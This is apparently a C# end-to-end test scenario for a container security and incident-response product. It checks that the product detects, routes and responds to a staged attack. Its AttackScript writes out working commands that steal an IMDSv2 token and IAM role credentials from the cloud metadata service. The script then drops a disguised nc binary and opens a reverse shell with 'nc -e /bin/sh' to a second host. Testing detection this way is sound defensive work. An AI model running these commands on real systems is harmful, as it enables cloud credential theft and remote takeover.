using System.Globalization;
using System.Text.Json;
using System.Text.Json.Nodes;
using Triage.Fakes.Kubernetes;
using Triage.Fakes.Slack;

namespace Triage.Scenario;

/// <summary>One incident as the scenario saw it through the API and at the fake Slack.</summary>
public sealed record IncidentReport
{
    public long Id { get; init; }
    public string Rule { get; init; } = "";
    public string Priority { get; init; } = "";
    public int AlertCount { get; init; }
    public string? Syscall { get; init; }
    public IReadOnlyList<string> ProcessTree { get; init; } = [];
    public string? Namespace { get; init; }
    public string? Pod { get; init; }
    public string? Workload { get; init; }
    public string? Image { get; init; }
    public string? Node { get; init; }
    public string? Owner { get; init; }
    public IReadOnlyList<string> Rollouts { get; init; } = [];
    public string? Runbook { get; init; }
    public string? Route { get; init; }
    public IReadOnlyList<string> Timeline { get; init; } = [];
    public string? CardChannel { get; init; }
    public string? CardText { get; init; }
    public IReadOnlyList<string> CardActions { get; init; } = [];
    public IReadOnlyList<string> Evidence { get; init; } = [];

    /// <summary>From the syscall (the first alert's time) to the card's arrival at the fake Slack.</summary>
    public TimeSpan SyscallToCard { get; init; }

    /// <summary>From the syscall to the incident's creation in the service (sensor, spool, ingest).</summary>
    public TimeSpan SyscallToIncident { get; init; }
}

/// <summary>What the scenario observed, step by step; the CI test asserts on it.</summary>
public sealed class ScenarioReport
{
    /// <summary>The pod the attacked container was presented as.</summary>
    public string Pod { get; set; } = "";

    public List<string> MetadataRequests { get; } = [];
    public List<string> AttackerOutput { get; } = [];
    public List<string> SecondHostOutput { get; } = [];
    public List<IncidentReport> Incidents { get; } = [];
    public string? KillResult { get; set; }
    public bool SecondHostSessionClosed { get; set; }
    public JsonNode? NetworkPolicy { get; set; }
    public string? QuarantineLabel { get; set; }
    public List<string> Escalation { get; } = [];
    public List<FakeSlackMessage> SlackMessages { get; } = [];

    public IncidentReport? Incident(string rule) => Incidents.FirstOrDefault(i => i.Rule == rule);
}

/// <summary>
/// The live attack: a container of the checkout Deployment is exploited; the attacker takes an IMDSv2 token and the
/// node role's credentials from the metadata service, drops a tool into the container and runs it, and opens a shell
/// to a second host. The scenario prints what the product did about each step and returns it as a report.
/// </summary>
public static class AttackScenario
{
    public const string MetadataRule = "Cloud metadata service contacted from container";
    public const string DriftRule = "Container drift binary executed";
    public const string ReverseShellRule = "Reverse shell socket on standard streams";

    /// <summary>The attacker's commands, run by the container's shell (busybox: nc for the IMDSv2 PUT, wget for reads).</summary>
    public static string AttackScript(bool reverseShell = true) => $$"""
        M={{AttackNetwork.MetadataAddress}}
        echo "[attacker] 1. IMDSv2 session token and the node role's credentials from $M"
        # nc keeps its input open a moment: on end of input it half-closes, and the server would drop the answer.
        TOKEN=$( (printf 'PUT /latest/api/token HTTP/1.0\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\nContent-Length: 0\r\n\r\n'; sleep 1) | nc $M 80 | tr -d '\r' | sed '1,/^$/d')
        ROLE=$(wget -q -O - --header "X-aws-ec2-metadata-token: $TOKEN" http://$M/latest/meta-data/iam/security-credentials/)
        wget -q -O /tmp/.creds --header "X-aws-ec2-metadata-token: $TOKEN" http://$M/latest/meta-data/iam/security-credentials/$ROLE
        echo "[attacker]    role $ROLE, access key $(grep -o 'ASIA[A-Z0-9]*' /tmp/.creds)"
        {{(reverseShell ? $$"""
        echo "[attacker] 2. drop a tool into the container and run it"
        mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/nc && chmod 755 /tmp/.x/nc
        echo "[attacker] 3. shell to the second host {{AttackNetwork.LateralAddress}}:{{AttackNetwork.LateralPort}}"
        /tmp/.x/nc {{AttackNetwork.LateralAddress}} {{AttackNetwork.LateralPort}} -e /bin/sh
        echo "[attacker]    shell session ended"
        """ : "")}}
        exec sleep 600
        """;

    public static async Task<ScenarioReport> RunAsync(TextWriter output, bool waitForEscalation, CancellationToken ct, bool keepFiles = false)
    {
        var report = new ScenarioReport();
        await using var stack = await ScenarioEnvironment.StartAsync(output, ct);
        stack.KeepFiles = keepFiles;
        try
        {
            await RunStepsAsync(stack, report, waitForEscalation, ct);
        }
        catch
        {
            stack.KeepFiles = true;
            throw;
        }

        return report;
    }

    private static async Task RunStepsAsync(ScenarioEnvironment stack, ScenarioReport report, bool waitForEscalation, CancellationToken ct)
    {
        var slackBaseline = stack.Slack.Messages.Count;

        var container = await stack.CreateWorkloadAsync("checkout", AttackScript(), ct);
        report.Pod = container.Pod;
        stack.Say($"Workload: Deployment {ScenarioEnvironment.Namespace}/checkout (3 rollouts, label team=payments), pod {container.Pod} = podman container {container.Id[..12]}");

        var secondHost = stack.ListenOnSecondHost(line =>
        {
            lock (report.SecondHostOutput)
            {
                report.SecondHostOutput.Add(line);
            }

            stack.Detail($"second host <- {line}");
        });

        // What the attacker's peer types into the shell once it connects; no "exit", so the session stays until killed.
        await secondHost.WriteAsync("echo \"shell on $(hostname) as uid $(id -u)\"; echo \"stolen key $(grep -o 'ASIA[A-Z0-9]*' /tmp/.creds)\"\n");
        stack.FollowLogs(container, line =>
        {
            lock (report.AttackerOutput)
            {
                report.AttackerOutput.Add(line);
            }

            stack.Detail(line);
        });

        stack.Say("Attack: starting the container (network namespace " + stack.Network.Workload + ")");
        await ScenarioEnvironment.StartAsync(container);

        var incidents = await WaitForIncidentsAsync(stack, container.Pod, [MetadataRule, DriftRule, ReverseShellRule], ct);
        report.MetadataRequests.AddRange(stack.MetadataRequests);
        stack.Say($"Fake metadata service answered {report.MetadataRequests.Count} requests:");
        foreach (var request in report.MetadataRequests)
        {
            stack.Detail(request);
        }

        foreach (var (rule, id) in incidents)
        {
            var incident = await ObserveIncidentAsync(stack, id, slackBaseline, ct);
            report.Incidents.Add(incident);
            Print(stack, incident);
        }

        // Respond from the card's actions, as the SOC operator would: kill the shell, quarantine the pod.
        var shell = report.Incident(ReverseShellRule)!;
        stack.Say($"Response: carol presses \"Kill process\" on incident #{shell.Id}");
        var kill = await stack.ActAsync(shell.Id, "kill_process", "carol", ct);
        stack.Detail($"service: {kill.GetProperty("message").GetString()}");
        report.KillResult = await WaitForTimelineAsync(stack, shell.Id, e => e.Contains("SIGKILL", StringComparison.Ordinal)
            || e.Contains("kill", StringComparison.OrdinalIgnoreCase) && (e.Contains("succeeded", StringComparison.Ordinal) || e.Contains("refused", StringComparison.Ordinal) || e.Contains("failed", StringComparison.Ordinal)), ct);
        stack.Detail($"sensor: {report.KillResult}");
        for (var i = 0; i < 100 && !secondHost.HasExited; i++)
        {
            await Task.Delay(100, ct);
        }

        report.SecondHostSessionClosed = secondHost.HasExited;
        stack.Detail(report.SecondHostSessionClosed ? "second host: the shell session closed" : "second host: the shell session is still open");

        var drift = report.Incident(DriftRule)!;
        stack.Say($"Response: carol presses \"Isolate pod\" on incident #{drift.Id}");
        var isolate = await stack.ActAsync(drift.Id, "isolate_pod", "carol", ct);
        stack.Detail($"service: {isolate.GetProperty("message").GetString()}");
        var policies = stack.Kubernetes.Store.List(KubernetesResources.NetworkPolicies, ScenarioEnvironment.Namespace).Items;
        report.NetworkPolicy = policies.FirstOrDefault()?.DeepClone();
        var pod = stack.Kubernetes.Store.Get(KubernetesResources.Pods, ScenarioEnvironment.Namespace, container.Pod);
        report.QuarantineLabel = pod?["metadata"]?["labels"]?.AsObject().FirstOrDefault(l => l.Key.Contains("quarantine", StringComparison.Ordinal)) is { Key: { } key } label
            ? $"{key}={label.Value}" : null;
        stack.Detail($"fake Kubernetes API: NetworkPolicy {report.NetworkPolicy?["metadata"]?["name"]} spec {report.NetworkPolicy?["spec"]?.ToJsonString()}");
        stack.Detail($"fake Kubernetes API: pod {container.Pod} labelled {report.QuarantineLabel ?? "(no quarantine label)"}");

        if (waitForEscalation)
        {
            var metadata = report.Incident(MetadataRule)!;
            stack.Say($"Escalation: nobody acknowledges incident #{metadata.Id}; its policy waits 1 minute per level");
            await WaitForTimelineAsync(stack, metadata.Id, e => e.StartsWith("paged: Paged level 2", StringComparison.Ordinal), ct, TimeSpan.FromSeconds(150));
            var detail = await stack.GetJsonAsync($"api/v1/incidents/{metadata.Id}", ct);
            foreach (var entry in Timeline(detail).Where(e => e.StartsWith("paged", StringComparison.Ordinal) || e.StartsWith("escalat", StringComparison.Ordinal)))
            {
                report.Escalation.Add(entry);
                stack.Detail(entry);
            }

            foreach (var dm in DirectMessages(stack.Slack, metadata.Id, slackBaseline))
            {
                stack.Detail($"Slack DM {dm}");
            }
        }

        report.SlackMessages.AddRange(stack.Slack.Messages.Skip(slackBaseline));
        report.SecondHostOutput.Sort(StringComparer.Ordinal);
        stack.Say($"Done: {report.Incidents.Count} incidents, {report.SlackMessages.Count} Slack messages, syscall-to-card "
            + string.Join(", ", report.Incidents.Select(i => $"#{i.Id} {i.SyscallToCard.TotalMilliseconds:0} ms")));
    }

    /// <summary>Waits until an incident exists for each rule; returns their ids in the order given.</summary>
    /// <remarks>
    /// Only incidents of <paramref name="pod"/> count: the sensor watches every container on the machine, and other
    /// containers (other people's tests on a shared machine) raise their own incidents in the same service.
    /// </remarks>
    internal static async Task<List<(string Rule, long Id)>> WaitForIncidentsAsync(ScenarioEnvironment stack, string pod, IReadOnlyList<string> rules, CancellationToken ct)
    {
        var found = new Dictionary<string, long>();
        for (var deadline = stack.Elapsed + TimeSpan.FromSeconds(60); found.Count < rules.Count;)
        {
            var page = await stack.GetJsonAsync("api/v1/incidents?limit=500", ct);
            foreach (var item in page.GetProperty("items").EnumerateArray())
            {
                var rule = item.GetProperty("rule").GetString()!;
                var ofPod = item.TryGetProperty("pod", out var p) && p.ValueKind == JsonValueKind.String && p.GetString() == pod;
                if (ofPod && rules.Contains(rule) && found.TryAdd(rule, item.GetProperty("id").GetInt64()))
                {
                    stack.Say($"Incident #{found[rule]} opened: {rule}");
                }
            }

            if (found.Count < rules.Count)
            {
                if (stack.Elapsed > deadline)
                {
                    throw new TimeoutException($"no incident within 60 s for: {string.Join(", ", rules.Where(r => !found.ContainsKey(r)))}");
                }

                await Task.Delay(100, ct);
            }
        }

        return rules.Select(r => (r, found[r])).ToList();
    }

    /// <summary>Waits until the incident is enriched, routed, carded in Slack and has evidence, then reads it all.</summary>
    internal static async Task<IncidentReport> ObserveIncidentAsync(ScenarioEnvironment stack, long id, int slackBaseline, CancellationToken ct, bool needEvidence = true)
    {
        for (var deadline = stack.Elapsed + TimeSpan.FromSeconds(60); ; await Task.Delay(200, ct))
        {
            var detail = await stack.GetJsonAsync($"api/v1/incidents/{id}", ct);
            var card = Card(stack.Slack, id, slackBaseline);
            var evidence = needEvidence ? await stack.GetJsonAsync($"api/v1/incidents/{id}/evidence", ct) : default;
            var timeline = Timeline(detail);
            var enriched = detail.TryGetProperty("enrichment", out var e) && e.ValueKind == JsonValueKind.Object
                && e.GetProperty("status").GetString() is not ("pending" or "Pending");
            var routed = timeline.Any(t => t.StartsWith("routed", StringComparison.Ordinal));
            // The sensor uploads a bundle one artifact at a time, the checkpoint (captured or unavailable) last.
            var hasEvidence = !needEvidence || evidence.EnumerateArray().Any(a => a.GetProperty("kind").GetString() == "checkpoint");
            if (enriched && routed && card is not null && hasEvidence)
            {
                return Read(detail, card, needEvidence ? evidence : default, timeline);
            }

            if (stack.Elapsed > deadline)
            {
                throw new TimeoutException($"incident #{id} within 60 s: enriched={enriched} routed={routed} card={card is not null} evidence={hasEvidence}; timeline: {string.Join(" | ", timeline)}");
            }
        }
    }

    /// <summary>The incident's card: the first top-level message about it in a team channel (pages go to people's DMs).</summary>
    internal static FakeSlackMessage? Card(FakeSlackWebApi slack, long id, int baseline) =>
        slack.Messages.Skip(baseline).FirstOrDefault(m => m.ThreadTs is null && m.EphemeralUser is null
            && m.Channel is ScenarioConfig.SocChannel or ScenarioConfig.PaymentsChannel
            && m.Text?.Contains($"#{id}", StringComparison.Ordinal) == true);

    /// <summary>Direct messages about the incident (pages to people), as "channel: text".</summary>
    internal static IEnumerable<string> DirectMessages(FakeSlackWebApi slack, long id, int baseline) =>
        slack.Messages.Skip(baseline).Where(m => m.ThreadTs is null && m.Channel is not (ScenarioConfig.SocChannel or ScenarioConfig.PaymentsChannel)
            && m.Text?.Contains($"#{id}", StringComparison.Ordinal) == true).Select(m => $"{m.Channel}: {m.Text}");

    private static IncidentReport Read(JsonElement detail, FakeSlackMessage card, JsonElement evidence, IReadOnlyList<string> timeline)
    {
        // The first alert of the incident: the syscall that opened it (the API lists the newest first).
        var alert = detail.GetProperty("alerts").EnumerateArray().Last();
        var k8s = Prop(alert, "k8s");
        var enrichment = detail.GetProperty("enrichment");
        var tree = new List<string>();
        if (Prop(alert, "ancestors") is { ValueKind: JsonValueKind.Array } ancestors)
        {
            // The nearest five ancestors (the sensor sends more: podman, conmon and runc on the host side).
            var chain = ancestors.EnumerateArray().Take(5).Select(a => $"{Str(a, "pid")} {Short(Str(a, "cmdline"))}").Reverse().ToList();
            for (var i = 0; i < chain.Count; i++)
            {
                tree.Add(new string(' ', i * 2) + chain[i]);
            }
        }

        tree.Add(new string(' ', tree.Count * 2) + $"{Str(alert, "process.pid")} {Short(Str(alert, "process.cmdline"))}   <- alerting process, exe {Str(alert, "process.exe")}");
        var syscall = Prop(alert, "syscall");
        var args = syscall is { } s && Prop(s, "args") is { ValueKind: JsonValueKind.Object } a
            ? string.Join(", ", a.EnumerateObject().Select(p => $"{p.Name}={p.Value}")) : "";
        var alertTime = FirstSyscall(detail);
        var rollouts = new List<string>();
        if (Prop(enrichment, "deployments.rollouts") is { ValueKind: JsonValueKind.Array } list)
        {
            rollouts.AddRange(list.EnumerateArray().Select(r =>
                $"revision {Str(r, "revision")} at {Str(r, "at")}: {string.Join(", ", Prop(r, "images")?.EnumerateArray().Select(i => i.GetString()) ?? [])} ({Str(r, "change_cause")})"));
        }

        return new IncidentReport
        {
            Id = detail.GetProperty("id").GetInt64(),
            Rule = detail.GetProperty("rule").GetString()!,
            Priority = detail.GetProperty("priority").GetString()!,
            AlertCount = detail.GetProperty("alert_count").GetInt32(),
            Syscall = syscall is null ? null : $"{Str(syscall.Value, "name")}({args}) = {Str(syscall.Value, "return")}",
            ProcessTree = tree,
            Namespace = Str(detail, "namespace"),
            Pod = Str(detail, "pod"),
            Workload = (Str(detail, "workload_kind") ?? Str(enrichment, "workload.kind")) is { } kind
                ? $"{kind}/{Str(detail, "workload_name") ?? Str(enrichment, "workload.name")}" : null,
            Image = Str(detail, "image"),
            Node = Str(detail, "node"),
            Owner = Str(detail, "owner_team") ?? Str(enrichment, "owner.team"),
            Rollouts = rollouts,
            Runbook = Str(enrichment, "runbook.name") ?? Str(enrichment, "runbook.title"),
            Route = timeline.FirstOrDefault(t => t.StartsWith("routed", StringComparison.Ordinal)),
            Timeline = timeline,
            CardChannel = card.Channel,
            CardText = card.Text,
            CardActions = ActionIds(card.Blocks).ToList(),
            Evidence = evidence.ValueKind == JsonValueKind.Array
                ? evidence.EnumerateArray().Select(x => Str(x, "unavailable") is { } why
                    ? $"{Str(x, "kind")}: unavailable ({why})"
                    : $"{Str(x, "kind")}: {Str(x, "name")} {Str(x, "size")} bytes sha256 {Str(x, "sha256")?[..12]}").ToList()
                : [],
            SyscallToCard = card.PostedAt - alertTime,
            SyscallToIncident = detail.GetProperty("timeline").EnumerateArray()
                .Where(t => t.GetProperty("kind").GetString() == "created")
                .Select(t => t.GetProperty("at").GetDateTimeOffset() - alertTime).FirstOrDefault(),
        };
    }

    /// <summary>The time of the incident's first syscall: the earliest alert (the API lists the newest first).</summary>
    internal static DateTimeOffset FirstSyscall(JsonElement detail) =>
        detail.GetProperty("alerts").EnumerateArray()
            .Min(a => DateTimeOffset.Parse(a.GetProperty("time").GetString()!, CultureInfo.InvariantCulture));

    internal static IReadOnlyList<string> Timeline(JsonElement detail) =>
        detail.GetProperty("timeline").EnumerateArray()
            .Select(t => $"{t.GetProperty("kind").GetString()}: {t.GetProperty("detail").GetString()} ({t.GetProperty("actor").GetString()})").ToList();

    private static async Task<string> WaitForTimelineAsync(ScenarioEnvironment stack, long id, Func<string, bool> match, CancellationToken ct, TimeSpan? timeout = null)
    {
        for (var deadline = stack.Elapsed + (timeout ?? TimeSpan.FromSeconds(30)); ; await Task.Delay(250, ct))
        {
            var detail = await stack.GetJsonAsync($"api/v1/incidents/{id}", ct);
            if (Timeline(detail).LastOrDefault(match) is { } hit)
            {
                return hit;
            }

            if (stack.Elapsed > deadline)
            {
                throw new TimeoutException($"incident #{id}: no matching timeline entry; timeline: {string.Join(" | ", Timeline(detail))}");
            }
        }
    }

    private static void Print(ScenarioEnvironment stack, IncidentReport i)
    {
        stack.Say($"Incident #{i.Id}: {i.Rule} ({i.Priority}, {i.AlertCount} alert(s))");
        stack.Detail($"syscall:      {i.Syscall}");
        stack.Detail("process tree:");
        foreach (var line in i.ProcessTree)
        {
            stack.Detail("  " + line);
        }

        stack.Detail($"kubernetes:   namespace {i.Namespace}, pod {i.Pod}, workload {i.Workload}, image {i.Image}, node {i.Node}");
        stack.Detail($"owner:        {i.Owner}");
        stack.Detail("rollouts:");
        foreach (var r in i.Rollouts)
        {
            stack.Detail("  " + r);
        }

        stack.Detail($"runbook:      {i.Runbook}");
        stack.Detail($"route:        {i.Route}");
        stack.Detail($"card:         Slack {i.CardChannel}: \"{i.CardText}\"");
        stack.Detail($"actions:      {string.Join(", ", i.CardActions)}");
        stack.Detail("evidence:");
        foreach (var e in i.Evidence)
        {
            stack.Detail("  " + e);
        }

        stack.Detail($"latency:      syscall -> incident {i.SyscallToIncident.TotalMilliseconds:0} ms, syscall -> card at Slack {i.SyscallToCard.TotalMilliseconds:0} ms");
    }

    private static IEnumerable<string> ActionIds(JsonNode? node)
    {
        switch (node)
        {
            case JsonObject o:
                if (o["action_id"] is JsonValue v && v.TryGetValue<string>(out var id))
                {
                    yield return id;
                }

                foreach (var (_, child) in o)
                {
                    foreach (var nested in ActionIds(child))
                    {
                        yield return nested;
                    }
                }

                break;
            case JsonArray a:
                foreach (var child in a)
                {
                    foreach (var nested in ActionIds(child))
                    {
                        yield return nested;
                    }
                }

                break;
        }
    }

    /// <summary>One line of at most 100 characters: the attack script is a multi-line sh -c argument.</summary>
    private static string Short(string? text)
    {
        var line = (text ?? "").ReplaceLineEndings(" ⏎ ");
        return line.Length <= 100 ? line : line[..97] + "...";
    }

    private static JsonElement? Prop(JsonElement element, string path)
    {
        var current = element;
        foreach (var part in path.Split('.'))
        {
            if (current.ValueKind != JsonValueKind.Object || !current.TryGetProperty(part, out current))
            {
                return null;
            }
        }

        return current;
    }

    private static string? Str(JsonElement element, string path) => Prop(element, path) switch
    {
        null => null,
        { ValueKind: JsonValueKind.Null } => null,
        { ValueKind: JsonValueKind.String } s => s.GetString(),
        { } other => other.ToString(),
    };
}
